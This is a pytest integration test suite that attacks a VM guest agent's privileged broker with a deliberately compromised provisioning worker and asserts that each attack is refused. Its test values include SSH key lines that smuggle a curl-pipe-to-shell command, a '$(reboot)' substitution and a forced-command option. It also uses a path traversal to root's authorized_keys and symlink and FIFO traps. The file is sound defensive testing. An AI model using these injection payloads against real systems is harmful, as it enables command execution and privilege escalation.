"""A compromised provisioning worker against the broker (issue 10 §1).

Each test runs the real agent in a confined host (emulator/confinement.py: the real
guestagentd, real useradd and mount, copies of /etc, /home and /var/lib) with the provisioning
worker's code replaced by an attack script (workers/base.py _TestHooks.attack): the worker's
own uid, its own channel, the real policy. The broker must refuse (FAILED, or DENIED and the
worker killed), the supervisor must stay up, and nothing may be written.

Root's home and a system account's home are pointed (in the confined host's copy of
/etc/passwd) at folders of the test, so that an attack that succeeds on a broken broker lands
there and not in the machine's own /root.
"""

import base64
import json
import os
import re
import stat
import subprocess
import time

import pytest

from emulator.confinement import PRODUCT_UUID, VENV
from tests.integration.provisioning.conftest import make_host  # noqa: F401
from workers.provisioning.identity import vm_id

VM_ID = vm_id(PRODUCT_UUID)
OVF_USER = "azureuser"           # the UserName of the emulator's default scenario
SYS_USER = "gaattacksys"         # a system account (uid below UID_MIN) made by the test
SYS_UID = 987
USER_UID = 1987


def _public_key(comment="azureuser@vm"):
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ed25519
    key = ed25519.Ed25519PrivateKey.generate().public_key()
    line = key.public_bytes(serialization.Encoding.OpenSSH,
                            serialization.PublicFormat.OpenSSH).decode()
    return line + (" " + comment if comment else "")


def _private_key():
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ed25519
    return ed25519.Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH,
        serialization.NoEncryption()).decode()


KEY = _public_key()
PRIVATE = _private_key()

PRELUDE = """
import json, re, time
report("uid", os.getuid())
def read_ovf():
    return attempt("provisioning.read_ovf", {"source": "dvd"})
"""


class Attacked:
    """A confined host whose provisioning worker runs `code` instead of its job."""

    def __init__(self, host):
        self.host = host
        self.dir = host.path("hooks")
        os.mkdir(self.dir, 0o755)
        os.mkdir(os.path.join(self.dir, "results"), 0o755)
        os.chmod(os.path.join(self.dir, "results"), 0o1777)
        self.root_home = host.path("roothome")
        self.sys_home = host.path("syshome")
        self.user_home = host.path("home", OVF_USER)
        self._accounts()

    def _accounts(self):
        """Root's home moved to a folder of the test; a system account and the OVF's user
        made in the confined host's /etc (the user, so that no provisioning.user is needed)."""
        etc = self.host.etc
        with open(os.path.join(etc, "passwd")) as f:
            lines = f.read().splitlines()
        lines = [re.sub(r"^(root:[^:]*:0:0:[^:]*:)[^:]*:", r"\g<1>%s:" % self.root_home, ln)
                 for ln in lines]
        taken = {int(ln.split(":")[2]) for ln in lines if ln.count(":") >= 6}
        assert SYS_UID not in taken and USER_UID not in taken
        lines += ["%s:x:%d:%d::%s:/usr/sbin/nologin" % (SYS_USER, SYS_UID, SYS_UID,
                                                         self.sys_home),
                  "%s:x:%d:%d::/home/%s:/bin/sh" % (OVF_USER, USER_UID, USER_UID, OVF_USER)]
        with open(os.path.join(etc, "passwd"), "w") as f:
            f.write("\n".join(lines) + "\n")
        with open(os.path.join(etc, "group"), "a") as f:
            f.write("%s:x:%d:\n%s:x:%d:\n" % (SYS_USER, SYS_UID, OVF_USER, USER_UID))
        for home, uid in ((self.root_home, 0), (self.sys_home, SYS_UID),
                          (self.user_home, USER_UID)):
            os.mkdir(home, 0o700)
            os.chown(home, uid, uid)

    def arm(self, code: str) -> None:
        with open(os.path.join(self.dir, "provisioning.attack.py"), "w") as f:
            f.write(PRELUDE + code)
        with open(os.path.join(self.dir, "provisioning"), "w") as f:
            f.write("attack\n")
        try:
            os.unlink(os.path.join(self.dir, "results", "provisioning.jsonl"))
        except FileNotFoundError:
            pass

    def start(self):
        self.host.start(extra_env={"GUESTAGENT_TEST_DIR": self.dir})

    def records(self):
        try:
            with open(os.path.join(self.dir, "results", "provisioning.jsonl")) as f:
                return [json.loads(line) for line in f if line.strip()]
        except FileNotFoundError:
            return []

    def wait(self, timeout=40.0):
        """The records once the script ended: `done`, `crashed`, or `killed` appended when the
        process died before the script ended (the supervisor ended it)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            records = self.records()
            if records and records[-1]["key"] in ("done", "crashed"):
                return records
            if records and not os.path.exists("/proc/%d" % records[0]["pid"]):
                time.sleep(0.2)   # a last record may still be on its way
                records = self.records()
                if records[-1]["key"] not in ("done", "crashed"):
                    records.append({"key": "killed", "value": None, "pid": records[0]["pid"]})
                return records
            time.sleep(0.05)
        raise AssertionError("the attack did not end in %.0f s: %r\n%s" % (
            timeout, self.records(), self.host.all_logs()[-4000:]))

    def run(self, code, timeout=40.0):
        self.arm(code)
        if self.host.proc is None:
            self.start()
        return self.wait(timeout)

    def supervisor_alive(self):
        return self.host.proc is not None and self.host.proc.poll() is None

    def agentctl(self, *args):
        return self.host.run_inside([os.path.join(VENV, "bin", "agentctl")] + list(args))


def outcomes(records):
    """verb -> list of outcomes, in order. A verb the script sent but never saw answered
    because the supervisor killed the worker meanwhile (a violation) shows as ["killed"]."""
    out = {}
    for r in records:
        out.setdefault(r["key"], []).append(r["value"])
    if records and records[-1]["key"] == "killed":
        return _Killed(out)
    return out


class _Killed(dict):
    def __missing__(self, key):
        return [["killed"]]


def refused(outcome):
    """FAILED/DENIED/INVALID_ARGS as an answer, or no answer because the worker was ended."""
    return outcome[0] in ("closed", "killed") or (outcome[0] == "error" and outcome[1] in (
        "FAILED", "DENIED", "INVALID_ARGS"))


@pytest.fixture
def attacked(make_host):
    def make(conf=None, media=True):
        values = {"Agent.TestHooks": "y"}
        values.update(conf or {})
        return Attacked(make_host(values, media=media))
    return make


def _tree(path):
    """Every path under `path` with its owner and mode, to show nothing changed."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(path):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            out[p] = (st.st_uid, stat.S_IMODE(st.st_mode), st.st_size)
    return out


# ---- accounts and paths ---------------------------------------------------------------------
def test_keys_for_root_and_a_system_account_are_refused(attacked):
    a = attacked()
    records = a.run("""
read_ovf()
attempt("provisioning.authorized_key", {"username": "root",
        "path": %(root)r + "/.ssh/authorized_keys", "key": %(key)r})
attempt("provisioning.key_pair", {"username": "root", "path": %(root)r + "/.bashrc",
        "private_key": %(priv)r, "public_key": %(key)r})
attempt("provisioning.authorized_key", {"username": %(sys)r,
        "path": %(sys_home)r + "/.ssh/authorized_keys", "key": %(key)r})
""" % {"root": a.root_home, "key": KEY, "priv": PRIVATE, "sys": SYS_USER,
       "sys_home": a.sys_home})
    got = outcomes(records)
    assert got["provisioning.read_ovf"][0][0] == "ok"
    for verb in ("provisioning.authorized_key", "provisioning.key_pair"):
        assert all(refused(o) for o in got.get(verb, [])), got
    assert os.listdir(a.root_home) == [] and os.listdir(a.sys_home) == []
    assert a.supervisor_alive()


def test_sudoers_only_for_the_ovf_user(attacked):
    a = attacked()
    records = a.run("""
read_ovf()
attempt("provisioning.sudoers", {"username": "nobody", "nopasswd": True})
attempt("provisioning.sudoers", {"username": "guestagent-mon", "nopasswd": True})
""")
    got = outcomes(records)
    assert all(refused(o) for o in got["provisioning.sudoers"]), got
    assert not os.path.exists(a.host.path("etc", "sudoers.d", "waagent"))
    assert a.supervisor_alive()


def test_account_verbs_without_an_ovf_read_by_the_broker_are_refused(attacked):
    a = attacked()
    records = a.run("""
attempt("provisioning.sudoers", {"username": %r, "nopasswd": True})
""" % OVF_USER)
    assert refused(outcomes(records)["provisioning.sudoers"][0])
    assert not os.path.exists(a.host.path("etc", "sudoers.d", "waagent"))


def test_key_paths_outside_the_users_ssh_folder_are_refused(attacked):
    a = attacked()
    home = "/home/" + OVF_USER
    records = a.run("""
read_ovf()
attempt("provisioning.authorized_key", {"username": %(u)r, "path": %(h)r + "/.bashrc",
        "key": %(key)r})
attempt("provisioning.key_pair", {"username": %(u)r, "path": %(h)r + "/.profile",
        "private_key": %(priv)r, "public_key": %(key)r})
attempt("provisioning.authorized_key", {"username": %(u)r,
        "path": %(root)r + "/.ssh/authorized_keys", "key": %(key)r})
attempt("provisioning.authorized_key", {"username": %(u)r,
        "path": %(h)r + "/.ssh/../../../" + %(root)r + "/.ssh/authorized_keys", "key": %(key)r})
""" % {"u": OVF_USER, "h": home, "key": KEY, "priv": PRIVATE, "root": a.root_home})
    got = outcomes(records)
    assert all(refused(o) for o in got.get("provisioning.authorized_key", []) +
               got.get("provisioning.key_pair", [])), got
    assert os.listdir(a.user_home) == [] and os.listdir(a.root_home) == []
    assert a.supervisor_alive()


def test_a_symlinked_ssh_folder_to_roots_is_not_followed(attacked):
    a = attacked()
    os.mkdir(os.path.join(a.root_home, ".ssh"), 0o700)
    os.symlink(os.path.join(a.root_home, ".ssh"), os.path.join(a.user_home, ".ssh"))
    records = a.run("""
read_ovf()
attempt("provisioning.authorized_key", {"username": %(u)r,
        "path": "/home/%(u)s/.ssh/authorized_keys", "key": %(key)r})
attempt("provisioning.key_pair", {"username": %(u)r, "path": "/home/%(u)s/.ssh/id_rsa",
        "private_key": %(priv)r, "public_key": %(key)r})
""" % {"u": OVF_USER, "key": KEY, "priv": PRIVATE})
    got = outcomes(records)
    assert all(refused(o) for o in got["provisioning.authorized_key"] +
               got["provisioning.key_pair"]), got
    assert os.listdir(os.path.join(a.root_home, ".ssh")) == []
    assert os.stat(os.path.join(a.root_home, ".ssh")).st_uid == 0


@pytest.mark.parametrize("line", [
    KEY.rsplit(" ", 1)[0] + " x; curl http://127.0.0.1:9/x | sh",
    KEY + "\nssh-rsa AAAAB3NzaC1yc2E= second",
    'command="/bin/sh -c id" ' + KEY,
    KEY.rsplit(" ", 1)[0] + " $(reboot)",
    "ssh-ed25519 AAAAB3NzaC1yc2EAAAADAQABAAABAQDl azureuser",   # blob of another type
    "ssh-ed25519 bm90IGEga2V5 azureuser",                       # not an SSH blob at all
], ids=["shell-comment", "newline", "options", "substitution", "wrong-type", "garbage-blob"])
def test_a_key_line_that_is_not_one_well_formed_key_is_refused(attacked, line):
    a = attacked()
    records = a.run("""
read_ovf()
attempt("provisioning.authorized_key", {"username": %(u)r,
        "path": "/home/%(u)s/.ssh/authorized_keys", "key": %(line)r})
""" % {"u": OVF_USER, "line": line})
    assert refused(outcomes(records)["provisioning.authorized_key"][0]), records
    assert os.listdir(a.user_home) == []
    assert a.supervisor_alive()


def test_a_root_owned_folder_in_the_home_is_not_chowned(attacked):
    a = attacked()
    ssh = os.path.join(a.user_home, ".ssh")
    os.mkdir(ssh, 0o755)   # root's, as left by an image build
    records = a.run("""
read_ovf()
attempt("provisioning.authorized_key", {"username": %(u)r,
        "path": "/home/%(u)s/.ssh/authorized_keys", "key": %(key)r})
""" % {"u": OVF_USER, "key": KEY})
    assert refused(outcomes(records)["provisioning.authorized_key"][0]), records
    st = os.stat(ssh)
    assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (0, 0o755)
    assert os.listdir(ssh) == []


def test_the_ovf_user_still_gets_its_keys(attacked):
    """The counterpart: the same verbs for the OVF's user, in its .ssh, succeed."""
    a = attacked()
    records = a.run("""
read_ovf()
attempt("provisioning.authorized_key", {"username": %(u)r,
        "path": "/home/%(u)s/.ssh/authorized_keys", "key": %(key)r})
attempt("provisioning.key_pair", {"username": %(u)r, "path": "/home/%(u)s/.ssh/id_ed25519",
        "private_key": %(priv)r, "public_key": %(key)r})
""" % {"u": OVF_USER, "key": KEY, "priv": PRIVATE})
    got = outcomes(records)
    assert got["provisioning.authorized_key"][0][0] == "ok", got
    assert got["provisioning.key_pair"][0][0] == "ok", got
    ssh = os.path.join(a.user_home, ".ssh")
    assert open(os.path.join(ssh, "authorized_keys")).read() == KEY + "\n"
    assert os.stat(os.path.join(ssh, "id_ed25519")).st_uid == USER_UID


# ---- FIFOs and deadlines ----------------------------------------------------------------------
def test_a_fifo_where_a_file_is_expected_neither_blocks_nor_wedges(attacked):
    a = attacked()
    ssh = os.path.join(a.user_home, ".ssh")
    os.mkdir(ssh, 0o700)
    os.chown(ssh, USER_UID, USER_UID)
    for name in ("id_a", "id_b", "authorized_keys"):
        os.mkfifo(os.path.join(ssh, name), 0o600)
        os.chown(os.path.join(ssh, name), USER_UID, USER_UID)
    lib = a.host.lib()
    os.makedirs(lib, 0o700, exist_ok=True)
    os.mkfifo(os.path.join(lib, "ovf-env.xml"), 0o600)   # where cloud-init's copy is read
    records = a.run("""
read_ovf_saved = attempt("provisioning.read_ovf", {"source": "saved"}, timeout=4)
attempt("provisioning.read_ovf", {"source": "dvd"}, timeout=4)
for name in ("id_a", "id_b"):
    attempt("provisioning.key_pair", {"username": %(u)r, "path": "/home/%(u)s/.ssh/" + name,
            "private_key": %(priv)r, "public_key": %(key)r}, timeout=4)
attempt("provisioning.authorized_key", {"username": %(u)r,
        "path": "/home/%(u)s/.ssh/authorized_keys", "key": %(key)r}, timeout=4)
attempt("debug.sleep", {"seconds": 0}, timeout=4)
""" % {"u": OVF_USER, "key": KEY, "priv": PRIVATE}, timeout=60)
    got = outcomes(records)
    # The saved copy is a FIFO: refused at once, not a thread blocked forever.
    assert got["provisioning.read_ovf"][0][:2] == ["error", "FAILED"], got
    for o in got["provisioning.key_pair"] + got["provisioning.authorized_key"]:
        assert o[:2] == ["error", "FAILED"], got
    # A slow verb still runs: no broker thread is wedged.
    assert got["debug.sleep"][0][0] == "ok", got
    for name in ("id_a", "id_b", "authorized_keys"):
        assert stat.S_ISFIFO(os.lstat(os.path.join(ssh, name)).st_mode)
    assert not os.path.exists(os.path.join(ssh, "id_a.pub"))
    start = time.monotonic()
    assert a.host.stop(timeout=15) == 0
    assert time.monotonic() - start < 10


def _custom_data_media(a, script: str) -> None:
    with open(os.path.join(a.host.media, "ovf-env.xml"), "rb") as f:
        data = f.read()
    encoded = base64.b64encode(script.encode()).decode()
    data = re.sub(rb"<CustomData>[^<]*</CustomData>", b"<CustomData>%s</CustomData>"
                  % encoded.encode(), data)
    a.host.write_media(ovf_bytes=data)


CUSTOM_DATA = """
read_ovf_result = read_ovf()
text = re.search(r"<CustomData>([^<]*)</CustomData>", read_ovf_result[1]["ovf"]).group(1)
attempt("provisioning.custom_data", {"custom_data": text}, timeout=%(timeout)s)
"""


def test_custom_data_runs_once_across_a_worker_crash_and_a_supervisor_restart(attacked):
    a = attacked({"Provisioning.ExecuteCustomData": "y"})
    ran = a.host.path("ran")
    _custom_data_media(a, "#!/bin/sh\necho ran >> %s\n" % ran)
    records = a.run(CUSTOM_DATA % {"timeout": 30} + "os._exit(3)\n")
    assert outcomes(records)["provisioning.custom_data"][0][0] == "ok", records
    assert open(ran).read() == "ran\n"
    # The worker crashed; started again, it asks again.
    a.arm(CUSTOM_DATA % {"timeout": 30})
    r = a.agentctl("start", "provisioning")
    records = a.wait()
    assert refused(outcomes(records)["provisioning.custom_data"][0]), records
    # The supervisor restarts (same boot, same VM): still once.
    a.host.stop()
    a.arm(CUSTOM_DATA % {"timeout": 30})
    a.start()
    records = a.wait()
    assert refused(outcomes(records)["provisioning.custom_data"][0]), records
    assert open(ran).read() == "ran\n", r


def test_silent_custom_data_is_killed_on_time_with_its_children(attacked):
    a = attacked({"Provisioning.ExecuteCustomData": "y", "Provisioning.CustomDataTimeout": "2"})
    late = a.host.path("late")
    _custom_data_media(a, "#!/bin/sh\n(sleep 20; echo late > %s) &\nsleep 20\n" % late)
    start = time.monotonic()
    records = a.run(CUSTOM_DATA % {"timeout": 15})
    took = time.monotonic() - start
    outcome = outcomes(records)["provisioning.custom_data"][0]
    assert outcome[0] in ("ok", "error") and outcome[:2] != ["closed"], outcome
    assert outcome[0] != "error" or outcome[1] == "FAILED", outcome
    assert took < 12, took
    # The whole process group went: the backgrounded writer never writes.
    assert subprocess.run(["pgrep", "-f", "echo late > %s" % late]).returncode == 1
    time.sleep(0.5)
    assert not os.path.exists(late)


def test_stopping_the_supervisor_ends_a_silent_custom_data(attacked):
    a = attacked({"Provisioning.ExecuteCustomData": "y"})
    _custom_data_media(a, "#!/bin/sh\nsleep 30\n")
    a.arm(CUSTOM_DATA % {"timeout": 60})
    a.start()
    a.host.wait_log("event=verb worker=provisioning verb=provisioning.custom_data",
                    name="supervisor")
    time.sleep(0.5)
    start = time.monotonic()
    a.host.stop(timeout=20)
    assert time.monotonic() - start < 8
    assert subprocess.run(["pgrep", "-f", "-x", "sleep 30"], capture_output=True).returncode \
        == 1


# ---- gates and ONCE from the broker's own state -----------------------------------------------
def _write_marker(a, value=VM_ID):
    lib = a.host.lib()
    os.makedirs(lib, 0o700, exist_ok=True)
    with open(os.path.join(lib, "provisioned"), "w") as f:
        f.write(value + "\n")


def test_the_gate_is_closed_from_disk_after_a_supervisor_restart(attacked):
    a = attacked()
    _write_marker(a)
    records = a.run("""
attempt("provisioning.read_ovf", {"source": "dvd"})
attempt("provisioning.authorized_key", {"username": %(u)r,
        "path": "/home/%(u)s/.ssh/authorized_keys", "key": %(key)r})
""" % {"u": OVF_USER, "key": KEY})
    got = outcomes(records)
    assert got["provisioning.read_ovf"][0][0] in ("closed", "killed"), got   # DENIED
    assert records[-1]["key"] == "killed"
    assert os.listdir(a.user_home) == []
    assert "event=security" in a.host.log("supervisor")
    assert a.supervisor_alive()


def test_forget_previous_vm_is_refused_when_the_vm_id_did_not_change(attacked):
    a = attacked()
    lib = a.host.lib()
    os.makedirs(lib, 0o700, exist_ok=True)
    for name in ("Incarnation", "GoalState.1.xml"):
        with open(os.path.join(lib, name), "w") as f:
            f.write("previous VM\n")
    records = a.run("""
attempt("provisioning.forget_previous_vm", {})
""")
    assert refused(outcomes(records)["provisioning.forget_previous_vm"][0]), records
    assert sorted(n for n in os.listdir(lib) if n in ("Incarnation", "GoalState.1.xml")) == [
        "GoalState.1.xml", "Incarnation"]


def test_finish_writes_the_vm_id_the_broker_read(attacked):
    a = attacked()
    records = a.run("""
attempt("provisioning.finish", {"vm_id": "00000000-0000-0000-0000-000000000000",
        "disable_agent": False})
""")
    got = outcomes(records)
    if got["provisioning.finish"][0][0] == "ok":
        assert open(a.host.lib("provisioned")).read().strip() == VM_ID
    else:
        assert not os.path.exists(a.host.lib("provisioned"))


def test_host_keys_unlink_links_and_fifos_without_following_and_run_once(attacked):
    """provisioning.host_keys takes no argument: the broker decides the folder (OS.SshDir) and
    the types (waagent.conf). What a worker may have planted there beforehand (it cannot write
    /etc/ssh, but an image may hold anything) is removed, never followed or opened; the types
    are made at once; a second call in the same process is refused, as is any argument."""
    a = attacked({"Provisioning.RegenerateSshHostKeyPair": "y",
                  "Provisioning.SshHostKeyPairType": "auto"})
    ssh = a.host.path("etc", "ssh")
    os.makedirs(ssh, exist_ok=True)
    victim = os.path.join(a.root_home, "victim")
    with open(victim, "w") as f:
        f.write("root's\n")
    os.symlink(victim, os.path.join(ssh, "ssh_host_rsa_key"))
    os.symlink(victim, os.path.join(ssh, "ssh_host_ecdsa_key.pub"))
    os.mkfifo(os.path.join(ssh, "ssh_host_ed25519_key"))
    records = a.run("""
attempt("provisioning.host_keys", {}, timeout=240)
attempt("provisioning.host_keys", {})
attempt("provisioning.host_keys", {"type": "rsa", "path": "/root/.ssh/id_rsa"})
""", timeout=300)
    got = outcomes(records)
    first, *later = got["provisioning.host_keys"]
    assert first[0] == "ok" and first[1]["regenerated"] and first[1]["type"] == "rsa", got
    # The second call is refused: a violation that ends the worker before it can send more.
    assert all(refused(o) for o in later) and (later or records[-1]["key"] == "killed"), got
    assert "event=security worker=provisioning" in a.host.log("supervisor")
    with open(victim) as f:
        assert f.read() == "root's\n"
    for kind in ("rsa", "ecdsa", "ed25519"):
        key = os.path.join(ssh, "ssh_host_%s_key" % kind)
        st = os.lstat(key)
        assert stat.S_ISREG(st.st_mode) and st.st_uid == 0 and stat.S_IMODE(st.st_mode) == 0o600
        derived = subprocess.run(["ssh-keygen", "-y", "-f", key], capture_output=True,
                                 text=True, check=True).stdout.split()[:2]
        with open(key + ".pub") as f:
            assert f.read().split()[:2] == derived, kind
    assert not os.path.exists(os.path.join(a.root_home, ".ssh"))
    assert a.supervisor_alive()


def _hanging_ssh_keygen(a, every=False):
    """A stand-in for ssh-keygen in the confined host: a key search (-t) hangs and writes its
    pid under hung/ (every one, or the first of each type: mkdir decides); the rest is the real
    one."""
    hung = a.host.path("hung")
    os.mkdir(hung)
    gate = 'mkdir "%s/$t" 2>/dev/null' % hung if not every else "true"
    a.host.put_tool("ssh-keygen", """#!/bin/sh
t=; prev=
for arg in "$@"; do [ "$prev" = -t ] && t=$arg; prev=$arg; done
if [ -n "$t" ] && %s; then
    mkdir -p "%s/$t"; echo $$ >> "%s/$t/pids"; exec sleep 600
fi
exec /usr/bin/ssh-keygen "$@"
""" % (gate, hung, hung))
    return hung


def _hung_pids(hung):
    pids = []
    for t in os.listdir(hung):
        try:   # (a search may have made its folder and not yet written its pid)
            with open(os.path.join(hung, t, "pids")) as f:
                pids += [int(p) for p in f.read().split()]
        except FileNotFoundError:
            pass
    return pids


def test_a_host_key_search_that_hangs_is_outrun_and_ended(attacked):
    """The broker races two searches for each host key where there is a second CPU (an RSA
    3072 prime search took 3.5-17 s under emulation). When one never ends, the keys still come
    from the other searches, the hung ones are ended, and /etc/ssh holds the keys alone."""
    from supervisor.privileged import searches
    if searches() < 2:
        pytest.skip("one CPU: one search per key")
    a = attacked({"Provisioning.RegenerateSshHostKeyPair": "y",
                  "Provisioning.SshHostKeyPairType": "auto"})
    hung = _hanging_ssh_keygen(a)
    ssh = a.host.path("etc", "ssh")
    before = {n for n in os.listdir(ssh) if not n.startswith("ssh_host_")}
    records = a.run("""
attempt("provisioning.host_keys", {}, timeout=90)
""", timeout=120)
    first = outcomes(records)["provisioning.host_keys"][0]
    assert first[0] == "ok" and first[1]["regenerated"], records
    assert sorted(os.listdir(hung)) == ["ecdsa", "ed25519", "rsa"]
    for kind in ("rsa", "ecdsa", "ed25519"):
        key = os.path.join(ssh, "ssh_host_%s_key" % kind)
        derived = subprocess.run(["ssh-keygen", "-y", "-f", key], capture_output=True,
                                 text=True, check=True).stdout.split()[:2]
        with open(key + ".pub") as f:
            assert f.read().split()[:2] == derived, kind
        assert stat.S_IMODE(os.lstat(key).st_mode) == 0o600
    assert {n for n in os.listdir(ssh) if not n.startswith("ssh_host_")} == before
    for pid in _hung_pids(hung):
        assert not os.path.exists("/proc/%d" % pid), "a hung search lives on"
    assert a.supervisor_alive()


def test_stopping_the_supervisor_ends_every_host_key_search(attacked):
    from supervisor.privileged import searches
    a = attacked({"Provisioning.RegenerateSshHostKeyPair": "y",
                  "Provisioning.SshHostKeyPairType": "rsa"})
    hung = _hanging_ssh_keygen(a, every=True)
    a.arm("""
attempt("provisioning.host_keys", {}, timeout=120)
""")
    a.start()
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(_hung_pids(hung)) < searches():
        time.sleep(0.1)
    pids = _hung_pids(hung)
    assert len(pids) == searches(), pids
    start = time.monotonic()
    a.host.stop(timeout=20)
    assert time.monotonic() - start < 8
    for pid in pids:
        assert not os.path.exists("/proc/%d" % pid), "a search lives on after the stop"
    ssh = a.host.path("etc", "ssh")
    assert not [n for n in os.listdir(ssh) if n.startswith(".ssh_host_")]
